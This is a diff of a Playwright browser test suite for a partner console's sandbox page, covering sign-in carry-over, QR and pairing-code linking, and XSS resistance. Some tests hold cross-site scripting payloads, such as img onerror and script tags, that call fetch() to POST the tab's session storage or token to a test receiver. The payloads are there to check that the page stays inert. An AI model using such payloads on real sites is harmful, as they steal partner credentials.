@@ -1,7 +1,13 @@
-"""The /sandbox page in a real browser: Debian's Chromium, driven by Playwright.
+"""The console's sandbox page (``/console/sandbox``) in a real browser: Debian's Chromium, driven
+by Playwright.
+
+The page is a section of the partner console: the person signs in with the console's form, and
+the partner token it keeps for the tab (session storage) is the one the page uses; another page
+of the console signed in in the same tab carries over, ``/sandbox`` redirects here, and a token
+revoked meanwhile signs the tab out.
 
 An instance's name is set by whoever holds that one instance token (Z-API ``update-name``), and
-the page shows it to the partner, whose token sits in the page. These tests rename instances to
+the page shows it to the partner, whose token the tab holds. These tests rename instances to
 markup that would run script, open the page as the partner and check the names stay text, that
 nothing ran or left for another origin, and that the page still links phones and chats. File
 names and captions are the sender's text too: the page sends a picture and shows a received
@@ -32,7 +38,9 @@ import httpx
 import pytest
 from playwright.async_api import Browser, ConsoleMessage, Dialog, Page, Request, async_playwright
 
-from fleetgate.api.sandbox import CONTENT_SECURITY_POLICY
+from fleetgate.api.console.pages import CONTENT_SECURITY_POLICY
+from fleetgate.context import Context
+from fleetgate.services import partners
 from tests.receiver import Receiver, running_receiver
 from tests.sending import Json, notifications_until, post, send
 from tests.support import (
@@ -47,6 +55,10 @@ from tests.support import (
 
 CHROMIUM = Path("/usr/bin/chromium")
 WAIT_MS = 15_000
+PAGE = "/console/sandbox"
+TOKEN_KEY = "fleetgate.partnerToken"  # where console.js keeps the partner token of the tab
+# What a hostile string would steal: the tab's session storage, where its partner token is.
+STEAL = "fetch('{hook}',{{method:'POST',body:JSON.stringify(sessionStorage)}})"
 
 
 def _chromium_or_skip() -> None:
@@ -101,15 +113,16 @@ class Watched:
             self.foreign_requests.append(url)
 
 
-OpenPage = Callable[[], Awaitable[Watched]]
+OpenPage = Callable[..., Awaitable[Watched]]
 
 
 @pytest.fixture
 async def open_sandbox(browser: Browser, server: LiveServer) -> AsyncIterator[OpenPage]:
-    """Factory: a fresh browser context on /sandbox, watched for errors, dialogs and requests."""
+    """Factory: a fresh browser context on the sandbox page (or another ``path`` of the console),
+    watched for errors, dialogs and requests; the page has the console's headers."""
     contexts = []
 
-    async def open_page() -> Watched:
+    async def open_page(path: str = PAGE) -> Watched:
         context = await browser.new_context()
         contexts.append(context)
         page = await context.new_page()
@@ -118,7 +131,7 @@ async def open_sandbox(browser: Browser, server: LiveServer) -> AsyncIterator[Op
         page.on("pageerror", lambda exc: watched.console_errors.append(str(exc)))
         page.on("dialog", watched.on_dialog)
         page.on("request", watched.on_request)
-        response = await page.goto(server.url + "/sandbox")
+        response = await page.goto(server.url + path)
         assert response is not None and response.status == 200
         headers = await response.all_headers()
         assert headers["content-security-policy"] == CONTENT_SECURITY_POLICY
@@ -144,11 +157,17 @@ async def _rename(client: httpx.AsyncClient, instance: Instance, name: str) -> N
     assert r.status_code == 200, r.text
 
 
-async def _show_instances(watched: Watched, partner_token: str, count: int) -> None:
-    page = watched.page
+async def sign_in(page: Page, partner_token: str) -> None:
+    """Sign in with the console's form; the page shows once the token is accepted."""
     await page.fill("#token", partner_token)
-    await page.click("#load")
-    await page.locator("#instances button").nth(count - 1).wait_for(timeout=WAIT_MS)
+    await page.click("#signinForm button")
+    await page.locator("#app").wait_for(timeout=WAIT_MS)
+
+
+async def _show_instances(watched: Watched, partner_token: str, count: int) -> None:
+    """Sign in: the page lists the partner's instances by itself."""
+    await sign_in(watched.page, partner_token)
+    await watched.page.locator("#instances button").nth(count - 1).wait_for(timeout=WAIT_MS)
 
 
 async def test_hostile_instance_names_show_as_text_and_run_nothing(
@@ -159,9 +178,7 @@ async def test_hostile_instance_names_show_as_text_and_run_nothing(
     receiver: Receiver,
 ) -> None:
     partner_token = await make_partner()
-    steal = "fetch('{hook}',{{method:'POST',body:document.getElementById('token').value}})".format(
-        hook=receiver.hook("stolen")
-    )
+    steal = STEAL.format(hook=receiver.hook("stolen"))
     names = [
         f'<img src=x onerror="window.__pwned=1;{steal}">',
         f"<script>window.__pwned=2;{steal}</script>",
@@ -314,7 +331,7 @@ async def test_the_page_sends_a_picture_and_shows_received_files_as_text(
     await authorize(client, instance, own)
     watched = await open_sandbox()
     page = watched.page
-    await page.fill("#token", partner_token)
+    await sign_in(page, partner_token)
     contact = _phone()
     await page.fill("#fromPhone", contact)
     await page.fill("#toPhone", own)
@@ -344,7 +361,7 @@ async def test_the_page_sends_a_picture_and_shows_received_files_as_text(
     # The instance answers with a file whose name and caption are markup that would run.
     slash = "'+String.fromCharCode(47)+'"  # a file name keeps no folder: no "/" in it
     hook = receiver.hook("stolen").replace("/", slash)
-    steal = f"fetch('{hook}',{{method:'POST',body:document.getElementById('token').value}})"
+    steal = STEAL.format(hook=hook)
     name = f"<img src=x onerror=window.__pwned=3;{steal}>.png"
     caption = f"<script>window.__pwned=4;{steal.replace(slash, '/')}</script>"
     answer = _png(2, 2)
@@ -424,7 +441,7 @@ async def test_the_page_makes_a_group_manages_it_and_writes_in_it(
     await authorize(client, instance, own)
     watched = await open_sandbox()
     page = watched.page
-    await page.fill("#token", partner_token)
+    await sign_in(page, partner_token)
     await _watch_phone(page, me)
 
     # The page's phone makes a group with the instance in it; its name is markup, shown as text.
@@ -520,7 +537,7 @@ async def test_the_page_reacts_votes_edits_deletes_calls_blocks_and_posts_status
     await authorize(client, instance, own)
     watched = await open_sandbox()
     page = watched.page
-    await page.fill("#token", partner_token)
+    await sign_in(page, partner_token)
     await _watch_phone(page, me)
     await page.fill("#toPhone", own)
     await page.fill("#text", "typo")
@@ -567,9 +584,9 @@ async def test_the_page_reacts_votes_edits_deletes_calls_blocks_and_posts_status
     # Call the instance (it rings, then is rejected) and block it.
     await page.select_option("#callOutcome", "declined")
     await page.click("#call")
-    await page.locator("#note", has_text="rang, then was rejected").wait_for(timeout=WAIT_MS)
+    await page.locator("#status", has_text="rang, then was rejected").wait_for(timeout=WAIT_MS)
     await page.click("#block")
-    await page.locator("#note", has_text=f"Blocked {own}@c.us").wait_for(timeout=WAIT_MS)
+    await page.locator("#status", has_text=f"Blocked {own}@c.us").wait_for(timeout=WAIT_MS)
 
     wanted = {
         ("incomingMessageReceived", "textMessage"),
@@ -607,7 +624,7 @@ async def test_the_page_reacts_votes_edits_deletes_calls_blocks_and_posts_status
     news = "<script>window.__pwned=6</script>"
     await page.fill("#statusText", news)
     await page.click("#postStatus")
-    await page.locator("#note", has_text="Posted the status").wait_for(timeout=WAIT_MS)
+    await page.locator("#status", has_text="Posted the status").wait_for(timeout=WAIT_MS)
     incoming = (await client.get(instance.url("getIncomingStatuses"))).json()
     assert [(s["chatId"], s["textMessage"]) for s in incoming] == [(f"{me}@c.us", news)]
     assert incoming[0]["extendedTextMessage"]["backgroundColor"] == "#228b22"
@@ -618,8 +635,92 @@ async def test_the_page_reacts_votes_edits_deletes_calls_blocks_and_posts_status
     await line.wait_for(timeout=WAIT_MS)
     assert await line.text_content() == f"{own}@c.us: <b>out</b> today view"
     await line.locator("button").click()
-    await page.locator("#note", has_text="Viewed the status").wait_for(timeout=WAIT_MS)
+    await page.locator("#status", has_text="Viewed the status").wait_for(timeout=WAIT_MS)
     stats = await client.get(instance.url("getStatusStatistic"), params={"idMessage": theirs})
     assert [(s["participant"], s["status"]) for s in stats.json()] == [(f"{me}@c.us", "read")]
-    assert await page.text_content("#status") == ""
+    assert await page.locator("#status.error").count() == 0
     await _assert_inert(watched)
+
+
+async def test_the_console_s_sign_in_carries_to_the_sandbox_which_links_by_qr_and_by_code(
+    ctx: Context,
+    client: httpx.AsyncClient,
+    make_instance: MakeInstance,
+    open_sandbox: OpenPage,
+) -> None:
+    name = f"sandbox-{secrets.token_hex(6)}"
+    async with ctx.db.transaction() as session:
+        _, partner_token = await partners.create_partner(session=session, name=name)
+    instance = await make_instance(partner_token)
+    await wait_for_state(client, instance, "notAuthorized")
+
+    # Signed in on the console's instances page, the tab goes to the sandbox through the
+    # navigation: no second sign-in, the list shows at once with the same stored token.
+    watched = await open_sandbox("/console")
+    page = watched.page
+    await sign_in(page, partner_token)
+    await page.click("header nav a[href='/console/sandbox']")
+    await page.wait_for_url(watched.origin + PAGE)
+    await page.locator("#instances button").first.wait_for(timeout=WAIT_MS)
+    assert await page.locator("#signin").is_hidden()
+    assert await page.input_value("#token") == ""
+    assert await page.locator("#instances td").first.text_content() == str(instance.id)
+
+    # The instance's page links here with the instance picked: its QR shows without a click,
+    # and a phone scans it.
+    await page.goto(f"{watched.origin}/console/instances/{instance.id}")
+    await page.click("#sandboxLink")
+    await page.wait_for_url(f"{watched.origin}{PAGE}?instance={instance.id}")
+    await page.locator("#qr img").wait_for(timeout=WAIT_MS)
+    assert await page.locator("#qr img").get_attribute("alt") == f"QR of {instance.id}"
+    await page.fill("#linkPhone", _phone())
+    await page.click("#scan")
+    await wait_for_state(client, instance, "authorized")
+
+    # A second instance links by a pairing code: its page asks for one for a number, and the
+    # sandbox's phone of that number types it (a wrong code first: refused, nothing linked).
+    second = await make_instance(partner_token)
+    await wait_for_state(client, second, "notAuthorized")
+    await page.goto(f"{watched.origin}/console/instances/{second.id}")
+    paired = _phone()
+    await page.fill("#pairPhone", paired)
+    await page.click("#pair")
+    await page.wait_for_function(
+        "() => document.querySelector('#pairCode').textContent.length === 8", timeout=WAIT_MS
+    )
+    code = await page.text_content("#pairCode") or ""
+    await page.click("#sandboxLink")
+    await page.locator("#qr img").wait_for(timeout=WAIT_MS)
+    await page.fill("#linkPhone", paired)
+    await page.fill("#pairingCode", "WRONG123")
+    await page.click("#typeCode")
+    await page.locator("#status.error", has_text="Linking failed: ").wait_for(timeout=WAIT_MS)
+    state = await client.get(second.url("getStateInstance"))
+    assert state.json() == {"stateInstance": "notAuthorized"}
+    await page.fill("#pairingCode", code)
+    await page.click("#typeCode")
+    linked = f"Linked {paired} to instance {second.id}."
+    await page.locator("#status", has_text=linked).wait_for(timeout=WAIT_MS)
+    await wait_for_state(client, second, "authorized")
+    assert await page.input_value("#toPhone") == paired
+
+    # The old address lands on the same page, still signed in.
+    response = await page.goto(watched.origin + "/sandbox")
+    assert response is not None and response.url == watched.origin + PAGE
+    redirect = response.request.redirected_from
+    first = await redirect.response() if redirect else None
+    assert first is not None and first.status == 307
+    await page.locator("#instances button").first.wait_for(timeout=WAIT_MS)
+
+    # Once the partner token is replaced, the old one is refused: the tab signs out and says so.
+    async with ctx.db.transaction() as session:
+        await partners.replace_partner_token(session=session, name=name)
+    await page.click("#load")
+    await page.locator("#signinError", has_text="not accepted").wait_for(timeout=WAIT_MS)
+    assert await page.locator("#app").is_hidden()
+    assert await page.evaluate(f"sessionStorage.getItem('{TOKEN_KEY}')") is None
+    # Chromium logs the two refusals the test provoked; nothing else went wrong or left.
+    refused = "Failed to load resource: the server responded with a status of"
+    assert watched.console_errors == [f"{refused} 404 (Not Found)", f"{refused} 401 (Unauthorized)"]
+    assert watched.foreign_requests == []
+    assert watched.dialogs == []
